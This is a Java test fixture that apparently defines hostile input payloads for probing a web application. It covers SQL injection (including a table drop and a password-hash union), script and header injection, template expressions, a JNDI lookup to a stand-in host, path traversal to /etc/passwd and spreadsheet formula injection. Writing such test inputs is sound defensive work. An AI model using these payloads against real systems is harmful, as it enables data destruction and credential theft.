package cash.tuppence.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/**
 * One value that nobody means well with.
 *
 * @param encoded as it goes into a form or a URL; it need not decode to text
 */
record Payload(String name, String text, String encoded) {
    /** Where this becomes an element, an attribute, a script or an address, something was not escaped. */
    static final String MARK = "hx7q";

    /** What the sum in the fragments of templates comes to, where one is evaluated. */
    static final String PRODUCT = "62615533";

    static final Payload MARKUP = of("markup", "\"><hx7q onhx7q=1>'<script>hx7q()</script></textarea></title>");
    private static final Set<String> SOME = Set.of(
            "10,000 characters",
            "NUL",
            "SQL that is true",
            "markup",
            "expression before",
            "negative",
            "bytes that are no text");

    private static final String SUM = "7919*7907";

    /** All of them, and for each field some that are other people's. */
    static List<Payload> all(List<String> othersIds) {
        List<Payload> all = new ArrayList<>(List.of(
                of("empty", ""),
                of("blank", " \t "),
                of("10,000 characters", "A".repeat(10_000)),
                of("10,000 wide characters", "\uD83D\uDCB8".repeat(5_000)),
                of("controls", "a\u0007\u001B[2Jb\u0085"),
                of("turned around", "a\u202Egnp.exe\u2066b"),
                of("NUL", "a\u0000b"),
                of("line ends", "x\r\nX-Hx7q: 1\r\nSet-Cookie: hx7q=1\r\n\r\n<hx7q>"),
                of("SQL that is true", "' or '1'='1"),
                of("SQL that ends", "1'; drop table members; -- "),
                of("SQL that joins", "\") union select email, password_hash from members # \\"),
                MARKUP,
                of("handler", "' onmouseover='hx7q()' onhx7q=1 x=\""),
                of("entity", "&lt;hx7q&gt;&#x3C;hx7q&#x3E;"),
                of("script address", "javascript:hx7q()//"),
                of("data address", "data:text/html,<hx7q>"),
                of("another site", "https://hx7q.example/"),
                of("another site, short", "//hx7q.example/"),
                of("another site, oddly", "/\\hx7q.example/%2f.."),
                of("expression", "${" + SUM + "}"),
                of("expression before", "__${" + SUM + "}__::.x"),
                of("expression in line", "[[${" + SUM + "}]][(${" + SUM + "})]"),
                of("other expressions", "#{" + SUM + "}*{" + SUM + "}{{" + SUM + "}}<%=" + SUM + "%>"),
                of("name look-up", "${jndi:ldap://hx7q.example/x}"),
                of("format", "%s%n%1$s%x%%"),
                of("path", "../../../../../etc/passwd"),
                of("formula", "=cmd|' /C hx7q'!A0"),
                of("pattern", "(a+)+$[.*?\\"),
                of("negative", "-1"),
                of("slightly negative", "-0.01"),
                of("huge", "99999999999999999999999999999999"),
                of("beyond a long", "9223372036854775808"),
                of("exponent", "1e308"),
                of("no number", "NaN"),
                of("other digits", "\uFF11\uFF12.\u0663"),
                of("wrong type", "[{\"a\":true}]"),
                of("no such day", "2026-02-30T25:61:61Z"),
                new Payload("bytes that are no text", "\uFFFD", "%FF%FE%ED%A0%80%C0%AF"),
                new Payload("broken encoding", "%zz", "%25zz%u0041")));
        othersIds.forEach(id -> all.add(of("somebody else’s", id)));
        return List.copyOf(all);
    }

    /** One of each sort. */
    static List<Payload> some(List<Payload> payloads) {
        return payloads.stream()
                .filter(payload -> SOME.contains(payload.name()))
                .toList();
    }

    /** Those that can stand in a URL; a client refuses to send the others there. */
    static List<Payload> forUrls(List<Payload> payloads) {
        return payloads.stream()
                .filter(payload -> !payload.encoded().matches(".*%(?![0-9A-F]{2}).*"))
                .toList();
    }

    static Payload of(String name, String text) {
        return new Payload(name, text, encode(text));
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
